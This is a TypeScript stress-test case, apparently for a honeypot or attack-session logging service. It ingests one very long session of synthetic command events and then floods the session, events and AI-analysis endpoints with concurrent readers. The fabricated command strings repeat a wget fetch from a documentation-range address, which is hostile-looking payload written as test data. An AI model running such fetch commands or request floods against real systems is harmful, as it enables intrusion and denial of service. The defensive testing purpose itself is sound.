import type { Page, Session } from '@eviltwin/contract'
import type { HostileCase } from './hostile-case.js'
import { attackWith, type Stage } from './stage.js'
import { at, flood, statusOf } from './tally.js'

const COMMANDS = 2_000
const BATCH = 250
const COMMAND_CHARACTERS = 16 * 1024
const READERS = 12
const AS_LINES = { 'content-type': 'application/x-ndjson' }

/** A batch of commands of the session, none like another. */
function commands(from: number): string {
  return Array.from({ length: BATCH }, (_, n) =>
    JSON.stringify({
      source_ip: '203.0.113.9',
      occurred_at: new Date().toISOString(),
      session: 'long',
      event_type: 'command',
      command: `echo ${from + n}; ${'wget http://192.0.2.1/x; '.repeat(700)}`.slice(0, COMMAND_CHARACTERS),
    }),
  ).join('\n')
}

async function idOfSession({ call }: Stage): Promise<string> {
  const answer = await call('/sessions?src_ip=203.0.113.9')
  return ((await answer.json()) as Page<Session>).items[0]?.id ?? ''
}

/** A session of 32 MB, all of which was once read, scored and sent for each question about it. */
export const longSession: HostileCase = {
  async prepare(stage) {
    return {
      async run({ isOver, tally }) {
        for (let from = 0; from < COMMANDS; from += BATCH)
          tally.add(`sent ${await statusOf(attackWith(stage, commands(from), AS_LINES))}`)
        const id = await idOfSession(stage)
        const questions = [
          () => stage.call(`/sessions/${id}`),
          () => stage.call(`/sessions/${id}/events`),
          () => stage.call('/ai/analyze', { method: 'POST', body: JSON.stringify({ session_id: id }) }),
        ]
        await flood(tally, READERS, isOver, (n) => at(questions, n)())
      },
    }
  },
}
